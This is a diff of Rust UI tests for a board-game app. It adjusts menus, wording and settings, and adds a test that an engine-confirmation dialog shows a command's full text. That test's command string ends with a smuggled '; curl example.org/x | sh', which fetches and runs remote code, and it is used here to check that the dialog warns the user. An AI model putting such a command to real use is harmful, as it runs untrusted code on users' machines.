@@ -6,6 +6,8 @@ use egui::{Context, Key};
 use super::model::{Model, Unfinished};
 use super::pages::Drafts;
 use super::{hud, pages, title, words};
+use crate::ai::lab::arena::Plan;
+use crate::app::activities::league::{LeagueRequested, View, untrusted};
 use crate::app::activities::match_play::Match;
 use crate::app::core::Screen;
 use crate::app::core::input::Intent;
@@ -18,6 +20,7 @@ use crate::app::engine::hints::HintRequested;
 use crate::app::engine::thinking::{MoveNowRequested, Thinking};
 use crate::app::games::bingo_battle::pages::SCORES;
 use crate::app::games::covered::Covered;
+use crate::app::games::line::BoardLine;
 use crate::app::games::turning::Turning;
 use crate::app::kit;
 use crate::app::kit::action::Action;
@@ -27,10 +30,10 @@ use crate::app::kit::slots::{Part, Slot};
 use crate::app::kit::stage::{SIZES, Stage};
 use crate::app::kit::theme;
 use crate::games::{GameKind, Player};
-use crate::record::{AnyTerms, Terms};
+use crate::record::{AnyTerms, Terms, saved};
 use crate::rules::bingo_battle::Options;
 use crate::rules::bingo_battle::options::Players;
-use crate::rules::bizingo::{Position, Side};
+use crate::rules::bizingo::{Bizingo, Position, Side};
 use crate::rules::{Declared, Outcome, Reason};
 
 pub(super) const ALL: [Page; 11] = [
@@ -63,7 +66,7 @@ pub(super) fn model(seats: [Seat; 2], strict: bool, moves: &[&str]) -> Model {
 }
 
 pub(super) fn against_computer(moves: &[&str]) -> Model {
-    model([Seat::Person, Seat::Computer(3)], false, moves)
+    model([Seat::Person, Seat::computer(3)], false, moves)
 }
 
 pub(super) fn over() -> Model {
@@ -80,7 +83,10 @@ pub(super) fn title(ctx: &Context, model: &Model) -> Vec<Action> {
 
 pub(super) fn panel(ctx: &Context, model: &Model) -> Vec<Action> {
     let place = hud::place(ctx, model);
-    region(ctx, "hud", place.panel, |ui| hud::panel(ui, model, &Settings::default(), place))
+    let line = hud::line_under_board(model, place, &BoardLine::Turn);
+    let mut actions = line.map_or_else(Vec::new, |rect| region(ctx, "line", rect, |ui| hud::board_line(ui, model, "")));
+    actions.extend(region(ctx, "hud", place.panel, |ui| hud::panel(ui, model, &Settings::default(), place)));
+    actions
 }
 
 /// A page with a draft of its own.
@@ -106,6 +112,41 @@ fn the_title_leads_on() {
         assert!(matches!(actions[..], [Action::Quit]));
         let last = stage.find("Quit").unwrap();
         assert!(last.bottom() <= height, "the buttons fit in {width} x {height}");
+    }
+}
+
+#[test]
+fn what_all_games_have_stands_where_it_was_in_the_menu_of_each() {
+    for (width, height) in SIZES {
+        let place = |model: &Model| {
+            let mut stage = Stage::new(width, height);
+            let mut draw = page(Page::MENU, model);
+            stage.settle(&mut draw);
+            // The page itself lies in the middle of the window, however long it is.
+            let first = stage.find("Resume").unwrap().top();
+            ["New game", "Share or save", "Settings"].map(|name| stage.find(name).unwrap().top() - first)
+        };
+        let usual = place(&against_computer(&["d8-e8"]));
+        let mut with_pages = bingo("2..../2..../...../..... l 0 0", &["s2 m3 c4 a5"]);
+        with_pages.slots.put(Slot::Menu, "a test", Some(std::sync::Arc::new(Doorbell)));
+        assert_eq!(place(&with_pages), usual, "{width} x {height}");
+    }
+}
+
+#[test]
+fn the_title_names_all_games_and_a_new_game_keeps_its_form() {
+    for (width, height) in SIZES.into_iter().chain([(844.0, 390.0), (740.0, 360.0)]) {
+        for model in [Model::default(), against_computer(&["d8-e8"]), three_unfinished()] {
+            let mut stage = Stage::new(width, height);
+            stage.settle(|ctx| title(ctx, &model));
+            let games = stage.find("Bizingo, Azigo and Bingo Battle");
+            assert!(games.is_some(), "{width} x {height}, {} unfinished", model.unfinished.len());
+            let (new, lesser) = (stage.find("New game").unwrap(), stage.find("Learn").unwrap());
+            assert!(new.bottom() <= lesser.top(), "a row of its own: {new:?} and {lesser:?}");
+            if let Some(first) = stage.find("Continue: Bizingo, move 1, against level 3") {
+                assert_eq!(new.x_range(), first.x_range(), "{width} x {height}");
+            }
+        }
     }
 }
 
@@ -163,14 +204,22 @@ fn a_new_game_asks_only_about_the_unfinished_one_of_its_kind() {
     let actions = stage.click("Start the game", |ctx| show(Page::NEW_GAME, &model, &mut drafts, ctx));
     assert!(matches!(actions[..], [Action::Open(Page::CONFIRM_LEAVE)]), "{actions:?}");
     stage.settle(|ctx| show(Page::CONFIRM_LEAVE, &model, &mut drafts, ctx));
-    assert!(stage.find("The new game replaces your unfinished one: Azigo, move 12, two players.").is_some());
+    assert!(
+        stage
+            .find("Your unfinished game goes to the library, where you can continue it: Azigo, move 12, two players.")
+            .is_some()
+    );
     // So does a game that comes.
     model.coming = Some(GameKind::Azigo);
     stage.settle(|ctx| show(Page::CONFIRM_OPEN, &model, &mut drafts, ctx));
-    assert!(stage.find("It replaces your unfinished game: Azigo, move 12, two players.").is_some());
+    assert!(
+        stage
+            .find("Your unfinished game goes to the library, where you can continue it: Azigo, move 12, two players.")
+            .is_some()
+    );
     model.coming = Some(GameKind::BingoBattle);
     stage.settle(|ctx| show(Page::CONFIRM_OPEN, &model, &mut drafts, ctx));
-    assert!(stage.find("It takes the place of the game you are watching.").is_some());
+    assert!(stage.find("It replaces the game you are watching.").is_some());
 }
 
 #[test]
@@ -201,7 +250,7 @@ fn starting_asks_for_the_match_that_was_set_up() {
     assert!(stage.click("Dark", &mut draw).is_empty());
     let actions = stage.click("Start the game", &mut draw);
     let [Action::Start(setup)] = &actions[..] else { panic!("{actions:?}") };
-    assert_eq!(setup.seats, [Seat::Computer(3), Seat::Person]);
+    assert_eq!(setup.seats, [Seat::computer(1), Seat::Person]);
     assert_eq!(setup.terms, AnyTerms::default());
 }
 
@@ -223,7 +272,7 @@ fn a_level_is_set_by_the_arrow_keys() {
     for _ in 0..2 {
         stage.press(Key::ArrowRight, &mut draw);
     }
-    assert_eq!(draft.game.setup.seats, [Seat::Person, Seat::Computer(5)]);
+    assert_eq!(draft.game.setup.seats, [Seat::Person, Seat::computer(3)]);
 }
 
 #[test]
@@ -244,11 +293,22 @@ fn a_pasted_position_is_started_from() {
     let start = Position::start(Side::Dark);
     let fresh = Model::default();
     let mut draft = Drafts::default();
+    let mut stage = Stage::new(1280.0, 2000.0);
+    // How a position is written matters to few, so it is folded away: the board sets one up.
+    stage.settle(|ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
+    let field = |stage: &Stage| stage.controls().iter().any(|(name, _)| name == "Position");
+    assert!(stage.find("Set up on the board").is_some() && !field(&stage));
+    stage.click("As text", |ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
+    stage.settle(|ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
+    assert!(field(&stage));
+    draft = Drafts::default();
     draft.game.position = "9/9".to_owned();
     let mut stage = Stage::new(1280.0, 800.0);
     let wrong =
         stage.click("Start the game", |ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
     assert!(wrong.is_empty());
+    stage.settle(|ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
+    assert!(field(&stage), "what is wrong is seen, though it was folded away");
     draft.game.position = start.to_string();
     let actions =
         stage.click("Start the game", |ctx| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft));
@@ -339,7 +399,7 @@ fn the_menu_does_whatever_can_be_done_and_closes() {
     let going = against_computer(&["d8-e8", "f5-e5"]);
     for (width, height) in SIZES {
         // As high as all of it: what is scrolled out of sight cannot be clicked.
-        let mut stage = Stage::new(width, height.max(1500.0));
+        let mut stage = Stage::new(width, height.max(1800.0));
         let actions = stage.click("Undo", page(Page::MENU, &going));
         assert!(matches!(actions[..], [Action::CloseAll, Action::Table(TableRequested::Undo)]), "{actions:?}");
         let actions = stage.click("Offer a draw", page(Page::MENU, &going));
@@ -350,7 +410,7 @@ fn the_menu_does_whatever_can_be_done_and_closes() {
         assert!(matches!(actions[..], [Action::Open(Page::CONFIRM_RESIGN)]), "{actions:?}");
         assert!(stage.find("Pause the computers").is_none(), "there is none to pause");
     }
-    let watched = model([Seat::Computer(2), Seat::Computer(3)], false, &[]);
+    let watched = model([Seat::computer(2), Seat::computer(3)], false, &[]);
     let mut stage = Stage::new(1280.0, 800.0);
     let actions = stage.click("One computer move", page(Page::MENU, &watched));
     assert_eq!(actions[1].sent::<Intent>(), Some(&Intent::StepComputers));
@@ -359,15 +419,15 @@ fn the_menu_does_whatever_can_be_done_and_closes() {
 #[test]
 fn a_result_says_when_the_game_turned() {
     let mut lost = over();
-    lost.setup.seats = [Seat::Computer(3), Seat::Person];
+    lost.setup.seats = [Seat::computer(3), Seat::Person];
     assert_eq!(words::turning(&lost), "");
     lost.turning = Some((Turning::Ahead { ply: 24, scores: [14, 13] }, 24));
     assert_eq!(words::turning(&lost), "You fell behind for good on move 24: 13 to 14.");
     lost.turning = Some((Turning::Behind { scores: [3, 9] }, 0));
-    assert_eq!(words::turning(&lost), "You were still ahead, 9 to 3.");
+    assert_eq!(words::turning(&lost), "You were ahead at the end, 9 to 3.");
     let mut stage = Stage::new(1280.0, 800.0);
     stage.settle(page(Page::RESULT, &lost));
-    assert!(stage.find("You were still ahead, 9 to 3.").is_some());
+    assert!(stage.find("You were ahead at the end, 9 to 3.").is_some());
     let mut two = lost.clone();
     two.setup.seats = [Seat::Person; 2];
     two.turning = Some((Turning::Ahead { ply: 7, scores: [18, 16] }, 7));
@@ -378,7 +438,7 @@ fn a_result_says_when_the_game_turned() {
 fn a_strict_game_takes_nothing_back() {
     let strict = model([Seat::Person, Seat::Person], true, &["d8-e8"]);
     let mut stage = Stage::new(1280.0, 800.0);
-    let actions = stage.click("Strict game: moves can’t be undone", |ctx| panel(ctx, &strict));
+    let actions = stage.click("Moves can’t be undone here", |ctx| panel(ctx, &strict));
     assert!(actions.is_empty());
 }
 
@@ -395,7 +455,7 @@ fn a_thinking_computer_can_be_hurried() {
 
 #[test]
 fn computers_among_themselves_are_held_and_stepped() {
-    let watched = model([Seat::Computer(2), Seat::Computer(3)], false, &[]);
+    let watched = model([Seat::computer(2), Seat::computer(3)], false, &[]);
     let mut stage = Stage::new(1280.0, 800.0);
     let actions = stage.click("Pause", |ctx| panel(ctx, &watched));
     assert!(matches!(actions[..], [Action::Table(TableRequested::Pause(true))]));
@@ -410,7 +470,7 @@ fn computers_among_themselves_are_held_and_stepped() {
 
 #[test]
 fn who_only_hears_a_choice_knows_what_it_is_about() {
-    for model in [against_computer(&[]), model([Seat::Computer(1), Seat::Computer(2)], false, &[])] {
+    for model in [against_computer(&[]), model([Seat::computer(1), Seat::computer(2)], false, &[])] {
         for open in ALL {
             let mut stage = Stage::new(1280.0, 4000.0);
             stage.settle(page(open, &model));
@@ -418,6 +478,8 @@ fn who_only_hears_a_choice_knows_what_it_is_about() {
             choices.sort();
             let twice: Vec<_> = choices.windows(2).filter(|pair| pair[0] == pair[1]).map(|pair| &pair[0]).collect();
             assert!(twice.is_empty(), "{open:?} has choices that cannot be told apart: {twice:?}");
+            let alone: Vec<_> = choices.iter().filter(|(group, _)| group.is_none()).collect();
+            assert!(alone.is_empty(), "{open:?} has choices without the name of their group: {alone:?}");
             if open == Page::NEW_GAME {
                 assert!(choices.contains(&(Some("Who plays?".to_owned()), "Two players".to_owned())), "{choices:?}");
             }
@@ -431,7 +493,8 @@ fn settings_change_one_thing_at_a_time() {
     let mut stage = Stage::new(1280.0, 1400.0);
     let actions = stage.click("Reduced motion", page(Page::SETTINGS, &going));
     let [Action::Set(settings)] = &actions[..] else { panic!("{actions:?}") };
-    assert_eq!(**settings, Settings { reduced_motion: Some(true), ..Settings::default() });
+    let expected = saved::Settings { reduced_motion: Some(true), ..Default::default() };
+    assert_eq!(**settings, Settings(expected));
     let actions = stage.click("Club", page(Page::SETTINGS, &going));
     let [Action::Set(settings)] = &actions[..] else { panic!("{actions:?}") };
     assert_eq!(settings.look, crate::app::core::settings::Look::Club);
@@ -448,19 +511,20 @@ fn results_are_shown_game_by_game() {
         date: "2026-01-31".to_owned(),
         helped: level == 5,
         rules: if level == 4 { "order=free".to_owned() } else { String::new() },
+        seed: Some(u64::from(level)),
     };
     let mut known = against_computer(&["d8-e8"]);
     let games = (1..=9).map(|level| game(level, if level < 5 { Ending::Won } else { Ending::Drawn })).collect();
-    known.results = std::sync::Arc::new(Results { games, ..Results::default() });
+    known.results = std::sync::Arc::new(Results(saved::Results { games, ..Default::default() }));
     for (width, height) in SIZES {
         let mut stage = Stage::new(width, height);
         let mut draw = page(Page::RESULTS, &known);
         stage.settle(&mut draw);
-        assert!(stage.find("Level 3, Apprentice: not played").is_some());
+        assert!(stage.find("Level 3, Henrik: not played").is_some());
         let empty = stage.click("Bingo Battle", &mut draw);
         stage.settle(&mut draw);
-        assert!(empty.is_empty() && stage.find("Level 3, Apprentice: 1 won").is_some());
-        assert!(stage.find("Level 5, Club player: not played").is_some(), "what was taken back does not count");
+        assert!(empty.is_empty() && stage.find("Level 3, Henrik: 1 won").is_some());
+        assert!(stage.find("Level 5, Duncan: not played").is_some(), "what was taken back does not count");
         let foot = stage.find("Done").unwrap();
         assert!(foot.bottom() <= height && foot.right() <= width, "{width} x {height}: {foot:?}");
     }
@@ -483,6 +547,44 @@ fn resigning_is_asked_about_and_enter_is_harmless() {
     kit::ask_for_focus(&stage.ctx);
     stage.settle(&mut draw);
     assert!(matches!(stage.press(Key::Enter, &mut draw)[..], [Action::Close]));
+}
+
+/// The end of a command may be what matters.
+#[test]
+fn a_program_of_a_file_is_shown_with_its_whole_command_and_enter_is_harmless() {
+    let command = "/home/a-friend/engines/bizingo-engine --threads 2 --log /tmp/log; curl example.org/x | sh";
+    let plan = Plan::<Bizingo> {
+        specs: [&format!("ugi:{command}"), "random"].map(|spec| spec.parse().unwrap()).to_vec(),
+        options: Default::default(),
+        position: None,
+        seed: 1,
+        opening: 0,
+        games: 2,
+        go: Default::default(),
+        clock: None,
+        sprt: None,
+        odds: 0,
+        adjudicate: None,
+        shard: Default::default(),
+        format: Default::default(),
+    };
+    let league = View { plan: Some(plan.into()), threads: 2, ..View::default() };
+    let mut model = Model::default();
+    model.league = league.into();
+    for (width, height) in SIZES {
+        let mut stage = Stage::new(width, height);
+        let mut draw = page(Page::CONFIRM_ENGINES, &model);
+        stage.settle(&mut draw);
+        assert!(stage.find(command).is_some(), "{width} x {height}");
+        kit::ask_for_focus(&stage.ctx);
+        stage.settle(&mut draw);
+        assert!(matches!(stage.press(Key::Enter, &mut draw)[..], [Action::Close]));
+        let actions = stage.click("Start them", &mut draw);
+        assert!(matches!(&actions[..], [Action::Close, go] if matches!(go.sent(), Some(LeagueRequested::Trust(2)))));
+    }
+    // What was agreed to before is not asked about again.
+    let known = Settings(saved::Settings { engines: vec![command.to_owned()], ..Default::default() });
+    assert!(untrusted(model.league.plan.as_ref().unwrap(), &known).is_empty());
 }
 
 #[test]
@@ -551,9 +653,10 @@ fn what_others_put_into_slots_is_shown_and_heard() {
     for (width, height) in SIZES {
         let rung = |actions: &[Action]| actions.iter().any(|action| action.sent::<HintRequested>().is_some());
         let mut stage = Stage::new(width, height);
-        for from in [Page::MENU, Page::RESULT] {
-            assert!(rung(&stage.click("Doorbell", page(from, &model))), "{from:?}");
-        }
+        assert!(rung(&stage.click("Doorbell", page(Page::RESULT, &model))), "{width} x {height}");
+        // The menu is longer than most windows, and scrolls.
+        let mut whole = Stage::new(width, 2000.0);
+        assert!(rung(&whole.click("Doorbell", page(Page::MENU, &model))), "{width} x {height}");
         assert!(rung(&stage.click("Doorbell", |ctx| panel(ctx, &model))));
     }
 }
@@ -617,7 +720,7 @@ fn a_line_of_the_list_has_the_number_of_its_first_move() {
 fn the_list_reads_dice_aloud_in_words() {
     let model = bingo("2..../2..../...../..... l 0 0", &["s2 m3 c4 a5", "sA mA c- a-", ": sm"]);
     let mut stage = Stage::new(1280.0, 800.0);
-    let actions = stage.click("suns 2, moons 3, crowns 4, arms 5", |ctx| panel(ctx, &model));
+    let actions = stage.click("2 of suns, 3 of moons, 4 of crowns, 5 of arms", |ctx| panel(ctx, &model));
     assert!(matches!(actions[..], [Action::Table(TableRequested::Jump(1))]));
     assert!(stage.find("in the order suns, moons").is_some());
 }
@@ -643,7 +746,7 @@ fn who_plays_is_asked_once_in_every_game() {
                 let [Action::Start(setup)] = &actions[..] else { panic!("{actions:?}") };
                 (setup.seats, setup.terms.alone())
             };
-            let (person, computer) = (Seat::Person, Seat::Computer(3));
+            let (person, computer) = (Seat::Person, Seat::computer(1));
             assert_eq!(started(&mut stage, "Two players", [false; 2]), ([person; 2], false));
             assert_eq!(started(&mut stage, "Watch", [true; 2]), ([computer; 2], false));
             assert_eq!(started(&mut stage, "Play the computer", [false, true]), ([person, computer], false));
